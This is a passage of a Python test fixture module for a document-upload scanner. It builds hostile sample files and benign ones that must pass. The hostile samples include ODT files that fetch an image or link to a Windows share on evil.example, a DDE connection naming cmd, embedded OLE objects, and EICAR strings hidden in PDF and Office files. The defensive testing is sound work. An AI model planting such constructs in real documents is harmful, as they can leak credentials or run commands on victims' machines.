            manifest=_manifest(("Object 1/", "application/vnd.oasis.opendocument.chart")),
            extra={"Object 1/content.xml": "<office:document-content/>"},
        ),
        EMBEDDED,
    ),
    "odt-embedded-ole-object": Hostile(
        lambda: odt(manifest=_manifest(("Object 2", "application/vnd.sun.star.oleobject"))), EMBEDDED
    ),
    "odt-external-image": Hostile(
        lambda: odt(
            events='<draw:frame xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0">'
            '<draw:image xlink:href="http://evil.example/pixel.png" xlink:type="simple"/></draw:frame>'
        ),
        EMBEDDED,
    ),
    "odt-linked-section-from-windows-share": Hostile(
        lambda: odt(events='<text:section-source xlink:href="\\\\evil.example\\share\\a.odt"/>'), EMBEDDED
    ),
    "odt-link-to-windows-share": Hostile(
        lambda: odt(events='<text:p><text:a xlink:href="file://evil.example/share/x">x</text:a></text:p>'), EMBEDDED
    ),
    "odt-dde-connection": Hostile(
        lambda: odt(events='<text:dde-connection-decl text:name="x" office:dde-application="cmd"/>'), EMBEDDED
    ),
    "odt-encrypted": Hostile(
        lambda: odt(
            manifest=_manifest(
                extra='<manifest:file-entry manifest:full-path="styles.xml" manifest:media-type="text/xml">'
                '<manifest:encryption-data manifest:checksum-type="SHA1/1K" manifest:checksum="x"/>'
                "</manifest:file-entry>"
            )
        ),
        PASSWORD,
    ),
}

# --- EICAR: only a virus scanner can tell ---------------------------------------------------

# Found by the damaged-file test (a 16x16 PNG with its image data changed):
# the chunk after the image data is out of step, which Pillow reports as a
# SyntaxError.
IMAGE_HOSTILE: dict[str, Hostile] = {
    "png-chunks-out-of-step": Hostile(
        lambda: bytes.fromhex(
            "89504e470d0a1a0a0000000d4948445200000010000000100802000000909168360000001949444154789c63948f5fc1400a"
            "602249f5a886510dd9e4b15775739ef5434a0300b5c80146746d27c40000000049454e44ae426082"
        ),
        "Deze foto is beschadigd of geen echte foto.",
    ),
}

CLAMD_HOSTILE: dict[str, Hostile] = {
    "eicar-in-pdf-page": Hostile(lambda: _pdf_with_page_stream(eicar(), compress=False), VIRUS, needs_clamd=True),
    "eicar-in-pdf-page-compressed": Hostile(
        lambda: _pdf_with_page_stream(eicar(), compress=True), VIRUS, needs_clamd=True
    ),
    "eicar-after-pdf-end": Hostile(lambda: pdf_bytes() + eicar() + b"\n%%EOF\n", VIRUS, needs_clamd=True),
    "eicar-in-docx-part": Hostile(lambda: docx(extra={"word/media/leesmij.txt": eicar()}), VIRUS, needs_clamd=True),
    "eicar-in-docx-text": Hostile(
        lambda: docx(body=f"<w:p><w:r><w:t>{eicar().decode()}</w:t></w:r></w:p>"), VIRUS, needs_clamd=True
    ),
    "eicar-in-xlsx-part": Hostile(lambda: _xlsx(extra={"xl/media/notitie.txt": eicar()}), VIRUS, needs_clamd=True),
    "eicar-in-odt-part": Hostile(lambda: odt(extra={"Pictures/leesmij.txt": eicar()}), VIRUS, needs_clamd=True),
}

HOSTILE: dict[str, Hostile] = {**PDF_HOSTILE, **OOXML_HOSTILE, **BOMBS, **ODF_HOSTILE, **IMAGE_HOSTILE, **CLAMD_HOSTILE}


@functools.cache
def hostile_file(name: str) -> bytes:
    return HOSTILE[name].build()


# --- Ordinary files that must stay accepted -------------------------------------------------


def _pdf_with_web_link() -> bytes:
    return _link_with(Dictionary(S=Name.URI, URI=String("https://www.rivierstad.nl/toeslagen")))


def _pdf_opening_on_first_page() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])
        link = Dictionary(
            Type=Name.Annot,
            Subtype=Name.Link,
            Rect=Array([72, 700, 200, 720]),
            A=pdf.make_indirect(Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]))),
        )
        pdf.pages[0].Annots = Array([pdf.make_indirect(link)])

    return _pdf(change, object_streams=True)


def _png() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (16, 16), "#1f5fa8").save(out, format="PNG")
    return out.getvalue()


def _docx_with_image_and_link() -> bytes:
    return docx(
        relationships=(
            relationship("rId4", "image", "media/image1.png"),
            relationship("rId5", "hyperlink", "https://www.rivierstad.nl/", external=True),
            relationship("rId6", "hyperlink", "mailto:wijkteam@rivierstad.nl", external=True),
        ),
        body=(
            '<w:p><w:hyperlink r:id="rId5" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            "<w:r><w:t>Website</w:t></w:r></w:hyperlink></w:p>"
            + _field(' HYPERLINK "https://www.rivierstad.nl/" ')
            + _field(" PAGE ")
        ),
        extra={"word/media/image1.png": _png()},
    )


def _xlsx_with_printer_settings() -> bytes:
    # Excel keeps printer settings in a .bin part: not a macro.
    return _xlsx(
        '<Default Extension="bin" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.printerSettings"/>',
        {"xl/printerSettings/printerSettings1.bin": b"\x00\x04\x00\x00DEVMODE" + b"\x00" * 100},
    )


BENIGN: dict[str, tuple[Callable[[], bytes], str]] = {
    "simple-pdf": (pdf_bytes, "application/pdf"),
    "pdf-with-web-link": (_pdf_with_web_link, "application/pdf"),
    "pdf-with-page-link-and-opening-view": (_pdf_opening_on_first_page, "application/pdf"),
    "pdf-with-compressed-text": (lambda: _pdf_with_page_stream(b"Huurtoeslag 2026", compress=True), "application/pdf"),
    "docx-with-image-and-links": (
        _docx_with_image_and_link,
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    "xlsx": (_xlsx, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    "xlsx-with-printer-settings": (
        _xlsx_with_printer_settings,
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    ),
    "pptx-with-next-slide-button": (
        lambda: pptx(_slide_with_action("ppaction://hlinkshowjump?jump=nextslide")),
        "application/vnd.openxmlformats-officedocument.presentationml.presentation",
    ),
    "odt": (odt, ODT),
    "odt-with-web-link": (
        lambda: odt(
            events='<text:p><text:a xlink:href="https://www.rivierstad.nl/">site</text:a>'
            '<text:a xlink:href="#hoofdstuk2">verder</text:a></text:p>'
        ),
        ODT,
    ),
    "png": (_png, "image/png"),
}
